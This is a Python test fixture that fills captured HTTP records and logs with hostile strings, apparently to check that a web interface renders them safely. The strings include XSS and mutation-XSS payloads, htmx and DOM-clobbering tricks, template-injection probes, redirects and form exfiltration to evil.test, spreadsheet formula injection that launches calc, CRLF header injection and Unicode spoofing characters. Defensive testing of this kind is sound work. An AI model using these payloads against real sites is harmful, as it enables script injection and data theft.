"""Captures whose every part tries to act in a browser."""

import time
from json import dumps

from app.contract.record import Body, Workload
from app.store import Incoming
from tests.records import OTHER_BOOT, exchange, incoming, log, spliced

TEXTS = [
    "<script>window.acted=1</script>",
    "<img src=x onerror=window.acted=1>",
    "<svg onload=window.acted=1><set attributeName=href to=javascript:acted=1 /></svg>",
    "\"'><body onload=window.acted=1>",
    "</pre></td></table><h1>injected</h1>",
    "</title><script>window.acted=1</script>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<a href=javascript:window.acted=1 autofocus>x</a>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div data-hx-on:load='window.acted=1' hx-on:htmx:load='window.acted=1'>x</div>",
    "<template hx type=partial hx-target=body>gone</template>",
    "<iframe srcdoc='<script>parent.acted=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=form_token></form>",
    "javascript:window.acted=1",
    "data:text/html,<script>alert(1)</script>",
    "\u202egpj.exe\u2066\u200f\u061c",
    "\x1b[2J\x1b]0;owned\x07\x00\x08\x7f\x9b31m",
    '=HYPERLINK("http://evil.test")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\ufeff\u2028\u2029&lt;b&gt;&#60;i&#62;",
    "\U0001d573\u0337\u0321\u031b" * 20,
    "%3Cscript%3E\\u003cscript\\u003e",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.acted=1>",
    "<svg><animate onbegin=window.acted=1 attributeName=x dur=1s><use href=data:image/svg+xml,x />",
    "<noscript><p title='</noscript><img src=x onerror=window.acted=1>'>",
    "<!--><img src=x onerror=window.acted=1>--><![CDATA[x]]><?php x ?>",
    "<textarea><title></textarea><script>window.acted=1</script>",
    "<details open ontoggle=window.acted=1><summary>x</summary></details>",
    "<video><source onerror=window.acted=1></video><audio src=x onerror=window.acted=1>",
    "<object data=javascript:window.acted=1></object><embed src=//evil.test>",
    "<a id=list name=q href=//evil.test>clobbered</a><form id=place></form>",
    "<img name=body id=htmx src=x><input form=code-form name=code autofocus>",
    "' onfocus=window.acted=1 autofocus tabindex=1 x='",
    '`${window.acted=1}` " style="background:url(//evil.test/x)" data-x="',
    "@import url(//evil.test/x.css);} * { display: none } x {",
    "\r\nContent-Type: text/html\r\nSet-Cookie: x=1\r\n\r\n<script>window.acted=1</script>",
    'host:a -status:2xx "unclosed since:7d, class:secret',
    "//evil.test/%2e%2e/..\\..\\?q=%00#<script>",
    "\u0000\ud7ff\ufffe\uffff\U000e0041\U000e0001\u200b\u2060\u00ad\u180e",
    "\u2067\u2068\u202b\u202d\u2069\u200e evil \u206a\u206f",
    "A\u0300" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "[click](javascript:window.acted=1) ![x](//evil.test/x.png) |pipe|`code`<!-- -->",
    "+1-1\t=cmd|'/c calc'!A1\r\n-2+3",
]
LONG = "A" * 250_000


def captures() -> list[Incoming]:
    now = time.time_ns()
    records = []
    for n, text in enumerate([*TEXTS, LONG], 1):
        short = text[:500]
        json = f'{{"k":{dumps(text)},{dumps(short)}:[{dumps(text)}]}}'
        headers = [(short, text[:8000]), ("Content-Type", "application/json")]
        records.append(
            exchange(
                n, boot=OTHER_BOOT, time_ns=now - n * 10**6, host=short, path="/" + text[:8000],
                query=[(short, text[:8000])], headers=headers, method=short[:60], pod=short,
                body=Body(text=json[: 256 * 1024], size=len(json)), namespace=short,
                product_version=short, rule=short, route=short, profile="cribl", reason=short,
                detail=text[:3000],
            )
        )  # fmt: skip
    records += [
        log(n, text, boot=OTHER_BOOT, time_ns=now - n * 10**6) for n, text in enumerate(TEXTS, 101)
    ]
    for n, text in enumerate(TEXTS, 201):
        pod, at = Workload(pod=text[:200]), now - n * 10**6
        records.append(spliced(n, text[:200], boot=OTHER_BOOT, time_ns=at, workload=pod))
    return incoming(*records)


def id_of(n: int) -> str:
    return f"{OTHER_BOOT}-{n}"
